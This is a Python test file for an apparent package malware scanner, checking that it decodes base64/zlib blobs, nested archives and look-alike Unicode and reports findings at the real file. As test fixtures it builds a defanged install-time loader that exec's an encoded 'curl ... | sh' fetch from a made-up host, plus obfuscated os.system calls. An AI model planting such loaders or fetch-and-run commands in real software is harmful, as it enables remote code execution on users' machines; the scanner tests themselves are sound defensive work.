"""Peel as a scan stage: decoded layers are scanned by every engine and reported at the real file."""

from __future__ import annotations

import base64
import io
import json
import zipfile
import zlib
from pathlib import Path

import avkit
import pytest
from antivenom import derived, sources
from antivenom.content import ContentFile, ContentStore, collect
from antivenom.engines import Hit
from antivenom.model import Package
from antivenom.peel import PeelCaps, gate
from antivenom.report import ReportContext, render
from antivenom.scanner import Scanner, ScanOptions
from antivenom.schemas import errors

# Defanged: a made-up host.
PAYLOAD = "import os\nos.system('curl -s https://stage.example.invalid/i.sh | sh')\n"
ENCODED = base64.b64encode(zlib.compress(PAYLOAD.encode())).decode()
SETUP = f"import base64, zlib\n\n_blob = '{ENCODED}'\nexec(zlib.decompress(base64.b64decode(_blob)))\n"


def _scan(root: Path, peel: bool = True) -> Package:
    (package,) = Scanner(ScanOptions(jobs=1, peel=peel)).scan(sources.resolve([str(root)], []))
    return package


@pytest.fixture(scope="module")
def layered(tmp_path_factory) -> Path:
    return avkit.write_tree(tmp_path_factory.mktemp("layered") / "pkg", {"setup.py": SETUP})


def test_a_decoded_layer_is_reported_at_the_literal_with_its_chain(layered):
    package = _scan(layered)
    decoded = [f for f in package.findings if f.decoded_from]
    assert decoded, [f.rule_id for f in package.findings]
    assert {f.path for f in decoded} == {"setup.py"}
    assert {f.line for f in decoded} == {3}  # the line the encoded literal sits on
    assert {f.attack_vector for f in decoded} == {"install-time"}  # the origin's vector
    shell = [f for f in decoded if "curl" in f.evidence]
    assert shell and shell[0].evidence.startswith("os.system(")  # the decoded line, not the blob
    first, last = shell[0].decoded_from[0], shell[0].decoded_from[-1]
    assert (first["path"], first["line"]) == ("setup.py", 3)
    assert "base64" in first["transforms"] and "zlib" in first["transforms"]
    assert last == {"path": "setup.py::peel/1", "line": 2, "transforms": []}
    assert "decoded from: setup.py:3 " in render([package], "text")


def test_without_peel_no_finding_comes_from_a_layer(layered):
    package = _scan(layered, peel=False)
    assert package.findings and not any(f.decoded_from for f in package.findings)
    assert not any("curl" in f.evidence for f in package.findings)


def test_reports_carry_decoded_from_and_validate(layered):
    package = _scan(layered)
    document = json.loads(render([package], "json", ReportContext()))
    assert errors("report.schema.json", document) == []
    assert any("decoded_from" in f for f in document["packages"][0]["findings"])
    sarif = json.loads(render([package], "sarif", ReportContext()))
    assert any("decoded_from" in r["properties"] for r in sarif["runs"][0]["results"])


def test_a_nested_archive_member_is_scanned_as_part_of_the_package(tmp_path):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        zf.writestr("inner/run.py", PAYLOAD)
    root = avkit.write_tree(tmp_path / "pkg", {"setup.py": "", "pkg/__init__.py": "x = 1\n"})
    (root / "pkg" / "data.bin").write_bytes(buffer.getvalue())  # the name hides what it is
    package = _scan(root)
    nested = [f for f in package.findings if f.decoded_from]
    assert nested and {f.path for f in nested} == {"pkg/data.bin"}
    assert any(step["path"] == "pkg/data.bin::inner/run.py" for f in nested for step in f.decoded_from)


@pytest.mark.parametrize("named", [False, True])
def test_a_fixture_archive_in_tests_is_auxiliary_unless_code_names_it(tmp_path, named):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        zf.writestr("old/run.py", PAYLOAD)
    setup = "import zipfile\nzipfile.ZipFile('tests/fixtures/old.zip')\n" if named else ""
    root = avkit.write_tree(tmp_path / "pkg", {"setup.py": setup, "pkg/__init__.py": "x = 1\n"})
    (root / "tests" / "fixtures").mkdir(parents=True)
    (root / "tests" / "fixtures" / "old.zip").write_bytes(buffer.getvalue())
    nested = [f for f in _scan(root).findings if f.decoded_from]
    assert nested and {f.auxiliary for f in nested} == {not named}


def _store(tmp_path: Path, files: dict[str, str]) -> tuple[list[ContentFile], ContentStore]:
    root = avkit.write_tree(tmp_path / "pkg", files)
    package = Package(target=str(root), root=root)
    found = collect(package, 1 << 20)
    store = ContentStore(tmp_path / "work")
    store.add(found)
    return found, store


def test_a_peel_cap_becomes_a_skipped_entry(tmp_path):
    files, store = _store(tmp_path, {"setup.py": SETUP})
    added = derived.add_derived(files, store, tmp_path / "derived", PeelCaps(max_depth=0), 1 << 20)
    assert added == []
    assert any(s.path == "setup.py" and s.reason.startswith("peel: depth cap") for s in files[0].package.skipped)


def test_derived_files_are_named_for_the_engines(tmp_path):
    files, store = _store(tmp_path, {"mod.pth": "import os; getattr(os, 'sys' + 'tem')('id')\n", "README": "hi\n"})
    added = derived.add_derived(files, store, tmp_path / "derived", PeelCaps(), 1 << 20)
    assert [(f.rel, f.path.name) for f in added] == [("mod.pth::normalised", "mod.pth.py")]
    assert added[0].derived.same_lines and store.files[-1] is added[0]
    assert b"os.system(" in store.read(added[0].path)


def test_a_pth_shaped_yara_hit_counts_only_from_a_real_pth(tmp_path):
    files, _ = _store(tmp_path, {"a.py": SETUP, "b.pth": "import os; exec(base64.b64decode('eA=='))\n"})
    info = {f.rel: derived.DerivedInfo(f"{f.rel}::peel/1", f.rel, 1, "python", (), False) for f in files}
    layer = [ContentFile(f.path, f"{f.rel}::peel/1", f.size, f.package, info[f.rel]) for f in files]
    hits = [Hit("pth_import_line_payload", file, 1) for file in layer]
    assert [derived.keeps(h) for h in hits] == [False, True]
    assert derived.keeps(Hit("pth_import_line_payload", files[0], 1))  # a real file: the engine decides


@pytest.mark.parametrize(("text", "level"), [
    (b"def add(a, b):\n    return a + b\n", gate.SKIP),
    (b"value = getattr(obj, name)\nmodel.eval()\npattern = re.compile(x)\n", gate.SKIP),
    (b"run = getattr(b, 'ex' + 'ec')\n", gate.NORMALISE),
    (b"_run = exec\n", gate.NORMALISE),
    (b"x = 1\nfrom os import system as s\n", gate.NORMALISE),
    (b"x = 1\nr = os.system\n", gate.NORMALISE),
    (b"url = 'https://' + host\n", gate.NORMALISE),
    (b"import base64\nexec(base64.b64decode(x))\n", gate.FULL),
    (b"import pickle, zlib\ndata = pickle.loads(zlib.decompress(blob))\n", gate.SKIP),
    (b"x = '" + b"QUJD" * 60 + b"'\n", gate.FULL),
    # invisible characters in runs (hidden.py decodes runs of 12): one selector after an emoji is text
    (("s = 'a" + "".join(chr(0xE0041 + i) for i in range(12)) + "'\n").encode(), gate.FULL),
    ("s = 'warning \u26a0\ufe0f and \U0001f600\ufe0f'\n".encode(), gate.SKIP),
    # a sink word only counts standing alone: `execute` and `filesystem` are no sinks
    (b"import base64\ncursor.execute(base64.b64decode(q))\nfilesystem = 1\n", gate.SKIP),
    (b"import base64\nos.system(base64.b64decode(c))\n", gate.FULL),
    # a string of spaces and tabs, eight a byte
    (b"x = '" + b" \t  \t\t \t" * 8 + b"'\n", gate.FULL),
    # the builtins module under another name re-spells only where it is reflected on
    (b"import builtins as _b\nvalue = getattr(obj, name)\n", gate.SKIP),
    (b"import builtins as _b\nrun = getattr(_b, 'exec')\n", gate.NORMALISE),
    (b"B = builtins\nB.__dict__['exec'](x)\n", gate.NORMALISE),
    # an instance's __dict__ and an assignment into globals() are no dispatch
    (b"self.__dict__[key] = value\nx = self.__dict__[key]\nglobals()[name] = value\n", gate.SKIP),
    (b"f = os.__dict__['sys' + 'tem']\n", gate.NORMALISE),
    (b"globals()['ex' + 'ec'](code)\n", gate.NORMALISE),
])
def test_the_text_gate(text, level):
    assert gate.level(text) == level


def test_the_gate_opens_when_yara_fails(monkeypatch):
    class Failing:
        def match(self, **_):
            raise gate.yara.TimeoutError("scan timed out")

    monkeypatch.setattr(gate, "_ruleset", lambda: Failing())
    assert gate.level(b"def add(a, b):\n    return a + b\n") == gate.FULL


def test_the_gate_says_which_work_a_file_needs():
    assert gate.assess(b"import base64\nexec(base64.b64decode(x))\n") == gate.Assessment(fold=True, view=True)
    assert gate.assess(b"import base64\nos.system(base64.b64decode(c))\n") == gate.Assessment(fold=True, view=False)
    assert gate.assess(b"_run = exec\n") == gate.Assessment(fold=False, view=True)
    assert gate.assess(b"def add(a, b):\n    return a + b\n") == gate.Assessment(fold=False, view=False)


def _padded(head: bytes, tail: bytes, size: int = 40 * 1024) -> bytes:
    """`head`, ordinary code up to `size` bytes, then `tail`: a large file with the two far apart."""
    filler = b"def helper_%d(a, b):\n    return a + b\n"
    body = b"".join(filler % i for i in range(size // len(filler)))
    return head + body + tail


def test_in_a_large_file_a_decoder_word_must_sit_near_a_sink():
    far = _padded(b"import base64\nconfig = base64.b64decode(setting)\n", b"def save(f, d):\n    f.write(d)\n")
    near = _padded(b"", b"import base64\ndef save(f, d):\n    f.write(base64.b64decode(d))\n")
    assert len(far) > gate._SMALL_FILE
    assert gate.assess(far).fold is False
    assert gate.assess(near).fold is True
    # a small file keeps the file-wide rule (httpuri: the import of subprocess, the decoder a kilobyte on)
    small = b"import base64\n" + b"# pad\n" * 300 + b"subprocess.run(base64.b64decode(c))\n"
    assert len(small) <= gate._SMALL_FILE and gate.assess(small).fold is True
    # and a long encoded run opens a large file wherever its sink is
    blob = b"payload = '" + b"QUJD" * 60 + b"'\n"
    assert gate.assess(_padded(blob + b"import base64\n", b"exec(base64.b64decode(payload))\n")).fold is True


@pytest.mark.parametrize(("text", "view"), [
    ("\uff45\uff58\uff45\uff43(code)\n", True),  # full-width letters: NFKC spells exec
    ("x = '\uff08\u6ce8\uff09\uff0c'\n", False),  # full-width punctuation of CJK prose
    ("\U0001d4ee\U0001d4f5 = 1\n", True),  # mathematical script letters
])
def test_the_gate_opens_for_look_alike_letters_not_full_width_punctuation(text, view):
    assert gate.assess(text.encode()).view is view
